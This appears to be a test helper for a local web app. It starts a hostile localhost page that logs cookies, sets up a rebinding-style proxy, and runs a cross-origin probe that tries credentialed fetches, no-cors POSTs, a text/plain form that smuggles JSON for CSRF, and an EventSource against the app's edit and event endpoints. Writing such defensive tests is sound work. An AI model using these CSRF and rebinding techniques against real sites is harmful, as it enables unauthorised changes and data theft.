// A stranger's web server on another port of this computer: it serves a page that tries to read and to write, and keeps the cookies it is sent.
import { once } from 'node:events';
import { createServer } from 'node:http';
import { type AddressInfo, connect, createServer as createTcpServer } from 'node:net';
import { atEnd } from '../../support/at-end.ts';

export interface EvilServer {
  readonly port: number;
  readonly cookies: readonly string[];
}

/** What the page knows of its target: more than a stranger would. */
export interface Target {
  readonly origin: string;
  readonly document: string;
}

/** Starts it; `/` is a page that does nothing until `attack` is evaluated in it. */
export async function startEvilServer(): Promise<EvilServer> {
  const cookies: string[] = [];
  const server = createServer((request, response) => {
    if (request.headers.cookie !== undefined) cookies.push(request.headers.cookie);
    response.writeHead(200, { 'content-type': 'text/html', connection: 'close' }).end(EVIL_PAGE);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  atEnd(() => {
    server.close();
    server.closeAllConnections();
  });
  return { port: (server.address() as AddressInfo).port, cookies };
}

const EVIL_PAGE = '<!doctype html><title>evil</title><body>evil</body>';

export interface Crossing {
  readonly port: number;
  /** New connections lead to this port from now on, as names do whose owner has changed where they lead. */
  leadTo(port: number): void;
}

/** Starts a place that passes connections on, first to one port of this computer, then to another. */
export async function startCrossing(first: number): Promise<Crossing> {
  let target = first;
  const server = createTcpServer((socket) => {
    const onward = connect(target, '127.0.0.1');
    socket.pipe(onward).pipe(socket);
    for (const each of [socket, onward]) each.on('error', () => each.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  atEnd(() => void server.close());
  return {
    port: (server.address() as AddressInfo).port,
    leadTo(port) {
      target = port;
    },
  };
}

/** What got through: each entry is a way in that gave the page something. Runs in the page. */
export async function attack({ origin, document: id }: Target): Promise<string[]> {
  const through: string[] = [];
  const pages = ['/', '/api/openapi.json', '/api/events', `/reading/${id}`, `/original/${id}`, '/session.js'];
  const body = JSON.stringify({ id, fields: { title: 'Written by a stranger' } });

  const settle = (element: HTMLElement) =>
    new Promise<'load' | 'error'>((resolve) => {
      element.addEventListener('load', () => resolve('load'));
      element.addEventListener('error', () => resolve('error'));
      setTimeout(() => resolve('error'), 1500);
      document.body.append(element);
    });

  const tryFetch = async (name: string, address: string, init: RequestInit) => {
    const answer = await fetch(origin + address, { credentials: 'include', ...init }).catch(() => undefined);
    if (answer?.ok) through.push(`${name} ${address}: ${(await answer.text()).slice(0, 40)}`);
  };

  for (const address of pages) {
    await tryFetch('fetch', address, {});
    await tryFetch('fetch with a header', address, { headers: { 'x-pressmark-secret': 'x' } });
    await tryFetch('fetch without cors', address, { mode: 'no-cors' });
  }
  const types = ['application/json', 'text/plain', 'application/x-www-form-urlencoded'];
  for (const type of types) {
    const init = { method: 'POST', body, headers: { 'content-type': type } };
    await tryFetch(`post ${type}`, '/api/documents.edit', init);
    await tryFetch(`post ${type} without cors`, '/api/documents.edit', { ...init, mode: 'no-cors' });
  }
  navigator.sendBeacon(`${origin}/api/documents.edit`, new Blob([body], { type: 'text/plain' }));

  for (const address of [...pages, `/reading/${id}/media/1.png`]) {
    const image = Object.assign(new Image(), { src: origin + address });
    if ((await settle(image)) === 'load') through.push(`image ${address}`);
  }
  for (const address of ['/session.js', '/assets/index-Ab12Cd34.js', '/api/openapi.json']) {
    const script = Object.assign(document.createElement('script'), { src: origin + address });
    if ((await settle(script)) === 'load') through.push(`script ${address}`);
  }
  for (const address of ['/', `/reading/${id}`]) {
    const frame = Object.assign(document.createElement('iframe'), { src: origin + address });
    await settle(frame);
    try {
      if (frame.contentDocument?.body.textContent) through.push(`frame ${address}`);
    } catch {
      // Another origin, as it should be.
    }
  }
  const form = Object.assign(document.createElement('form'), {
    method: 'POST',
    enctype: 'text/plain',
    action: `${origin}/api/documents.edit`,
    target: 'sink',
  });
  // The trick by which a form of plain text sends JSON: {"id":…,"fields":{…},"x":"="}
  const field = Object.assign(document.createElement('input'), { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
  form.append(field);
  const sink = Object.assign(document.createElement('iframe'), { name: 'sink' });
  document.body.append(sink, form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 300));

  await new Promise<void>((resolve) => {
    const events = new EventSource(`${origin}/api/events`, { withCredentials: true });
    events.onopen = () => {
      through.push('event source');
      resolve();
    };
    events.onerror = () => resolve();
  });
  return through;
}
